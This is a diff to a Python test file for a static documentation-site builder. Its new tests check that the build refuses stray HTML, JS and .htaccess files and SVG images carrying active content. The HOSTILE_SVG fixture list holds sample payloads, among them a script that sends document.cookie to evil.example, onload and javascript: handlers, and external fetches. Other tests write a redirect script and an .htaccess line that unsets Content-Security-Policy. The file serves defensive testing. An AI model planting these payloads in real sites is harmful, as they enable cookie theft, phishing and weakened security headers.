@@ -118,10 +118,78 @@ def test_a_link_to_the_projects_own_secrets_or_from_the_overrides_is_refused(pro
     assert not (project / "site").exists()
 
 
-def test_a_link_inside_the_project_is_fine(project, capsys):
-    (project / "docs" / "en" / "about-copy.txt").symlink_to(project / "docs" / "en" / "about.md")
+def test_a_link_inside_its_folder_is_fine(project, capsys):
+    (project / "docs" / "en" / "drawing.svg").write_text(DRAWING, encoding="utf-8")
+    (project / "docs" / "en" / "drawing-copy.svg").symlink_to("drawing.svg")
     code, out = _run(project, capsys, "check")
-    assert "outside the site's folder" not in out
+    assert "drawing" not in out
+
+
+# A plain drawing: a gradient and a shape used by reference, a title, a style.
+DRAWING = """<?xml version="1.0" encoding="UTF-8"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
+  <title>A shield</title>
+  <style>.s { stroke: #1d3a5f; }</style>
+  <defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>
+    <path id="p" d="M1 1h8v8z"/></defs>
+  <use xlink:href="#p" class="s" fill="url(#g)"/>
+  <use href="#p" style="fill: url('#g')"/>
+</svg>
+"""
+HOSTILE_SVG = [
+    ("script", '<script>fetch("https://evil.example/?" + document.cookie)</script>', "<script>: is not part of"),
+    ("handler", '<rect width="1" height="1" onload="alert(1)"/>', "<rect onload>: runs a script"),
+    ("link", '<a href="javascript:alert(1)"><rect width="1" height="1"/></a>', "<a>: is not part of"),
+    ("outside use", '<use href="https://evil.example/x.svg#p"/>', "<use href>: leads out of the image"),
+    (
+        "outside paint",
+        '<rect width="1" height="1" fill="url(https://evil.example/t)"/>',
+        "<rect fill>: fetches another",
+    ),
+    ("import", "<style>@import url(https://evil.example/s.css);</style>", "<style>: fetches another file"),
+    (
+        "page inside",
+        '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">Pay</p></foreignObject>',
+        "<foreignObject>",
+    ),
+]
+
+
+def test_only_pages_and_images_are_published_from_docs(project, capsys):
+    """Anything else in docs/ would go on the site as it is: a page of the attacker's own, with a
+    script from the site's address (which its policy allows), or a file that reconfigures the
+    server. Refused by name; a plain SVG drawing is published."""
+    folder = project / "docs" / "en"
+    (folder / "pay.html").write_text('<h1>Pay here</h1><script src="pay.js"></script>', encoding="utf-8")
+    (folder / "pay.js").write_text("location = 'https://evil.example/'", encoding="utf-8")
+    (folder / ".htaccess").write_text("Header unset Content-Security-Policy\n", encoding="utf-8")
+    code, out = _run(project, capsys, "build", "--no-posters")
+    assert code == 1
+    for name in ("pay.html", "pay.js", ".htaccess"):
+        assert f"docs/en/{name}: only pages (.md) and their images" in out
+    assert not (project / "site").exists()
+    for name in ("pay.html", "pay.js", ".htaccess"):
+        (folder / name).unlink()
+    (folder / "drawing.svg").write_text(DRAWING, encoding="utf-8")
+    code, out = _run(project, capsys, "build", "--no-posters")
+    assert code == 0, out
+    assert (project / "site" / "drawing.svg").read_text(encoding="utf-8") == DRAWING
+
+
+@pytest.mark.parametrize(("name", "part", "words"), HOSTILE_SVG, ids=[c[0] for c in HOSTILE_SVG])
+def test_an_svg_image_or_logo_that_is_more_than_a_drawing_is_refused_with_its_line(project, capsys, name, part, words):
+    """Opened on its own, on a host that sends no security headers, an SVG is a page of the site."""
+    svg = DRAWING.replace("</svg>", f"  {part}\n</svg>")
+    (project / "docs" / "en" / "drawing.svg").write_text(svg, encoding="utf-8")
+    (project / "data" / "logo.svg").write_text(svg, encoding="utf-8")
+    settings = project / "data" / "site.yml"
+    settings.write_text(settings.read_text(encoding="utf-8") + "branding:\n  logo: logo.svg\n", encoding="utf-8")
+    code, out = _run(project, capsys, "build", "--no-posters")
+    assert code == 1
+    line = svg.splitlines().index(f"  {part}") + 1
+    assert f"docs/en/drawing.svg:{line}: {words}" in out
+    assert f"data/logo.svg:{line}: {words}" in out
+    assert not (project / "site").exists()
 
 
 # ---------------------------------------------------------------- site_url and server configuration
